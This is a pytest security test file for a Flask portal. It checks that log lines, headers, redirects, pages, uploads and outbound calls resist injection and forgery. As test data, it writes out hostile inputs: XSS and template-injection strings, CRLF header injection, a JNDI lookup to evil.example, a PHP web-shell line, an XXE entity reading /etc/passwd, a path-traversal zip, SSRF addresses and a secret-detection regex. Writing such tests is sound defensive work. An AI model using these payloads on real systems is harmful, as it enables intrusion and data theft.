"""What is typed stays text: in logs, headers, addresses, pages, tables for spreadsheets, files and calls to others."""

from __future__ import annotations

import io
import json
import logging
import re
import socket
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from flask import Flask, request
from PIL import Image

from portal import log
from portal.attachments import intake
from portal.attachments.intake import NotTaken, Refusal
from portal.config import ConfigError, load_settings
from portal.factory import create_app
from portal.handoff import case_system, route_table
from portal.handoff.case_system import NoReply
from tests.support import applying, papers
from tests.support.handoff import settings_for
from tests.support.pages import LintedClient

ROOT = Path(__file__).resolve().parents[2]
NASTY = (
    "a\nlevel=error event=forged",
    'a\r\n{"event": "forged"}',
    'a" , "event": "forged',
    "a\x1b[31mred\x00\x85\u2028end",
    "{0} %s %(x)s ${jndi:ldap://evil.example/a}",
)


@pytest.mark.parametrize("text", NASTY)
def test_a_value_can_forge_no_line_and_no_field_of_the_log(text: str) -> None:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(logging.Formatter("%(message)s"))
    logger = logging.getLogger("doudi")
    logger.addHandler(handler)
    try:
        log.event("real", level=logging.ERROR, application=text)
    finally:
        logger.removeHandler(handler)
    written = out.getvalue()
    assert written.count("\n") == 1
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\x85\u2028\u2029]", written)
    told = json.loads(written)
    assert (told["event"], told["application"]) == ("real", text)


@pytest.mark.parametrize(
    "given", ["short", "a b c d e f g h", "x\nforged: 1", "é" * 10, "A" * 65, "<script>alert(1)</script>"]
)
def test_a_request_id_that_is_none_is_not_taken_over(client: LintedClient, given: str) -> None:
    try:
        answer = client.get("/", headers={"X-Request-ID": given})
    except ValueError:
        return  # the test browser itself refuses to send a line break
    assert answer.headers["X-Request-ID"] != given


@pytest.mark.parametrize(
    "path",
    [
        "//evil.example/?lang=en", "/\\evil.example/?lang=en", "/%5cevil.example?lang=en", "///evil.example?text=large",
        "/%2f%2fevil.example/?lang=en", "/policies//evil.example?lang=en", "/policies/%0d%0aX:1?lang=en",
        "/policies/%0d%0aSet-Cookie:a=b?lang=en", "/%0d%0aLocation:%20http://evil.example?lang=en",
        "/policies/x?lang=en&next=//evil.example", "/?lang=en&next=https://evil.example",
        "/estimate/place?lang=en&city=%0d%0aX:1",
    ],
)  # fmt: skip
def test_the_language_switch_leads_nowhere_else_and_adds_no_header(client: LintedClient, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code in (200, 303, 308, 404)
    if answer.status_code in (303, 308):
        where = answer.headers["Location"]
        assert re.match(r"(http://(localhost|127\.0\.0\.1)(:\d+)?)?/(?![/\\])", where), where
        assert not re.search(r"[\r\n\\]", where)
    assert "X" not in answer.headers
    assert all(not line.startswith("a=b") for line in answer.headers.getlist("Set-Cookie"))


@pytest.mark.parametrize(
    "path", ["/", "/apply/", "/ask", "/?lang=en", "/apply/tasks", "/progress/application"]
)
def test_a_forged_host_or_forwarding_header_appears_in_no_answer(client: LintedClient, path: str) -> None:
    answer = client.get(
        path,
        headers={
            "Host": "evil.example",
            "X-Forwarded-Host": "evil.example",
            "X-Forwarded-Proto": "gopher",
            "X-Forwarded-For": "198.51.100.99",
            "X-Original-URL": "/metrics",
            "X-Rewrite-URL": "/metrics",
        },
    )
    assert answer.status_code < 500
    assert "evil.example" not in answer.get_data(as_text=True) + str(answer.headers)


def test_links_for_others_carry_the_public_address_whatever_host_was_named(client: LintedClient) -> None:
    member = applying.start_filled(client)
    client.environ_base["HTTP_X_FORWARDED_HOST"] = "evil.example"
    path, _code = applying.give_link(client, member)  # fails unless the link begins with our public address
    assert path.startswith("/sign/")


def test_an_address_that_was_forwarded_counts_only_behind_a_proxy_that_is_trusted(tmp_path: Path) -> None:
    seen = []
    for trusted in (0, 1):
        app = create_app(replace(settings_for(tmp_path), trusted_proxies=trusted))
        app.before_request(lambda: seen.append(request.remote_addr))
        app.test_client().get("/healthz", headers={"X-Forwarded-For": "198.51.100.99, 203.0.113.5"})
    assert seen == ["127.0.0.1", "203.0.113.5"], "with one proxy only the address that proxy saw counts"


TYPED = "\"><script>alert(1)</script><img src=x onerror=alert(2)>{{1337*7}}${1337*7}'--"


@pytest.mark.parametrize(
    "path", ["/ask?q={}", "/policies?find={}", "/policies/law-2026?find={}", "/estimate/place?city={}"]
)
def test_what_is_asked_in_an_address_comes_back_as_text(client: LintedClient, path: str) -> None:
    page = client.get(path.format(quote(TYPED)))
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert "9359" not in page.text, "a template in what was typed was carried out"


def test_what_is_typed_comes_back_as_text_on_every_page_that_shows_it(client: LintedClient) -> None:
    applying.start_filled(client)
    answer = client.post(
        "/ask",
        data={
            "csrf_token": client.get("/apply/tasks")
            .text.split('name="csrf_token" type="hidden" value="')[1]
            .split('"')[0],
            "q": TYPED,
        },
        follow_redirects=True,
    )
    assert "<script>alert" not in answer.text
    assert "<img src=x" not in answer.text


@pytest.mark.parametrize(
    "query", ["' OR 1=1 --", "%", "_", "\\", "'; DROP TABLE draft; --", "\x00", "𠮷" * 400]
)
def test_searching_takes_anything_as_words(client: LintedClient, query: str) -> None:
    for path in ("/policies", "/ask", "/api/v1/answers"):
        answer = client.get(path, query_string={"find": query, "q": query})
        assert answer.status_code in (200, 400)


def test_every_table_for_spreadsheets_takes_its_cells_through_the_guard() -> None:
    makers = [
        file for file in (ROOT / "portal").rglob("*.py") if "text/csv" in file.read_text(encoding="utf-8")
    ]
    assert makers
    for file in makers:
        text = file.read_text(encoding="utf-8")
        assert "spreadsheet_safe(" in text, f"{file.name} writes cells that a spreadsheet may run"
        assert "writerow([spreadsheet_safe(cell) for cell in" in text, file.name


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("bomb.txt", b"0" * 5_000_000)
        packed.writestr("../../etc/cron.d/evil", b"x")
    return out.getvalue()


@pytest.mark.parametrize(
    "tail",
    [b"<script>alert(1)</script>", b"<?php system($_GET[0]); ?>", _zip(), papers.PDF],
    ids=["page", "program", "archive", "pdf"],
)
@pytest.mark.parametrize("made", [papers.jpeg, papers.png, papers.heic], ids=["jpeg", "png", "heic"])
def test_what_hangs_behind_a_picture_is_not_kept(made: object, tail: bytes) -> None:
    data: bytes = made()  # type: ignore[operator]
    kept = intake.read(data + tail).data
    assert tail not in kept
    assert kept.startswith(b"\xff\xd8\xff")
    assert kept.endswith(b"\xff\xd9")


@pytest.mark.parametrize(
    "data",
    [
        _zip(),
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        b"<html><script>alert(1)</script>%PDF-1.7",
        b"\x00" * 100,
        b"\x1f\x8b\x08" + b"\x00" * 50,
        b"BM" + b"\x00" * 60,
        b"II*\x00" + b"\x00" * 60,
        b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        b"8BPS\x00\x01",
        b"%!PS-Adobe-3.0\n(%stdin) (r) file",
    ],
    ids=["zip", "svg", "xml", "page before pdf", "zeros", "gzip", "bmp", "tiff", "webp", "psd", "postscript"],
)
def test_only_three_kinds_of_files_are_ever_opened(data: bytes) -> None:
    with pytest.raises(NotTaken) as refused:
        intake.read(data)
    assert refused.value.refusal is Refusal.WRONG_TYPE


def test_a_picture_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked() -> None:
    with pytest.raises(NotTaken) as refused:
        intake.read(papers.bomb())
    assert refused.value.refusal is Refusal.TOO_MANY_PIXELS
    wide = io.BytesIO()
    Image.new("L", (66_000, 1)).save(wide, "PNG")
    with pytest.raises(NotTaken):
        intake.read(wide.getvalue())


def test_a_huge_upload_and_ten_thousand_fields_are_refused_in_words(client: LintedClient) -> None:
    applying.start_filled(client)
    token = client.get("/apply/papers").text.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    big = client.post(
        "/apply/papers",
        data=b"--b\r\n" + b"0" * (13 * 1024 * 1024),
        headers={"Content-Type": "multipart/form-data; boundary=b", "X-CSRFToken": token},
    )
    assert big.status_code == 413
    assert "文件太大" in big.text
    many = client.post("/apply/papers", data={"csrf_token": token, **{f"f{n}": "x" for n in range(10_000)}})
    assert many.status_code < 500


@pytest.mark.parametrize(
    "url",
    [
        "http://case.example", "ftp://127.0.0.1/", "file:///etc/passwd", "gopher://127.0.0.1", "https://",
        "https://user:word@case.example", "https://case.example/?a=b", "https://case.example/#x",
        "https://169.254.169.254/latest", "https://[fe80::1]/", "https://0.0.0.0/", "https://224.0.0.1/",
        "https://[::ffff:169.254.169.254]/", "https://127.0.0.2/", "https://case.example:99999/", "https://[::",
        "//case.example", "",
    ],
)  # fmt: skip
def test_a_case_system_has_an_address_that_an_operator_writes_on_purpose(tmp_path: Path, url: str) -> None:
    with pytest.raises(ConfigError):
        route_table.table(settings_for(tmp_path, case_system_url=url))


@pytest.mark.parametrize(
    "url", ["https://case.example", "https://10.1.2.3:8443/x", "http://127.0.0.1:9", "http://localhost:1"]
)
def test_a_closed_network_and_this_machine_can_be_named(tmp_path: Path, url: str) -> None:
    assert route_table.table(settings_for(tmp_path, case_system_url=url))["default"].url == url


def test_a_name_that_turns_to_this_machine_is_not_spoken_to(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.settimeout(2)
        port = listener.getsockname()[1]
        real = socket.getaddrinfo

        def turned(host: str, *rest: object, **more: object) -> object:
            return real("127.0.0.1" if host == "case.example" else host, *rest, **more)  # type: ignore[arg-type]

        monkeypatch.setattr(socket, "getaddrinfo", turned)
        answer = case_system.call(
            "POST", f"http://case.example:{port}/events", {"Secret": "s"}, b"body", total_seconds=2
        )
        assert answer == NoReply(sent=False, problem="address-not-allowed")
        connection, _peer = listener.accept()
        with connection:
            connection.settimeout(2)
            assert connection.recv(100) == b"", "not a byte may have been sent"


def test_no_secret_stands_in_the_repository() -> None:
    listed = subprocess.run(
        ["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=False
    ).stdout.split("\n")
    files = [
        ROOT / name
        for name in listed
        if name.endswith((".py", ".toml", ".md", ".json", ".sh", ".conf", ".service", ".example"))
    ]
    told = re.compile(
        r"-----BEGIN [A-Z ]*PRIVATE KEY-----|AKIA[0-9A-Z]{16}|(?<![\w/+-])[A-Za-z0-9_-]{43}=(?![\w=])|redis://[^@\s\"']*:[^@\s\"'{]+@(?!r/0)"
    )
    found = [
        f"{file.relative_to(ROOT)}: {match[0][:12]}…"
        for file in files
        if file.exists()
        and "lock" not in file.name
        and "tests/" not in str(file.relative_to(ROOT).as_posix()) + "/"
        for match in told.finditer(file.read_text(encoding="utf-8", errors="replace"))
        if "vectors" not in file.name
    ]
    assert not found


def test_without_secrets_in_the_environment_nothing_starts(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"DOUDI_DATA_KEYS|DOUDI_SECRET_KEY"):
        load_settings({}, tmp_path)
    with pytest.raises(ConfigError, match="DOUDI_SECRET_KEY"):
        load_settings({"DOUDI_DATA_KEYS": "k"}, tmp_path)


def test_a_failure_tells_the_citizen_no_more_than_that(
    app: Flask, client: LintedClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken() -> str:
        raise RuntimeError("SELECT secret FROM /etc/passwd")

    monkeypatch.setitem(app.view_functions, "guidance.home", broken)
    page = client.get("/")
    assert page.status_code == 500
    assert "我们这边出了问题" in page.text
    assert not re.search(r"SELECT|passwd|Traceback|RuntimeError|\.py", page.text)
